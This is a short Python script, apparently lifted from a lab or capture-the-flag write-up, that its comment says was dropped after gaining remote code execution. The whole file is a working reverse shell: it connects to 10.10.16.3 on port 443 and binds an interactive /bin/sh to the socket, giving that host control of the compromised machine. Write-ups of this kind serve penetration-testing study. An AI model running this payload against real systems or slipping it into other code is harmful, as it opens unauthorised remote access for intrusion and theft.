# from the write-up: once we had RCE we dropped this to get a proper shell
import socket
import subprocess

def shell(host, port):
    s = socket.socket()
    s.connect((host, port))
    p = subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
    p.wait()

shell("10.10.16.3", 443)
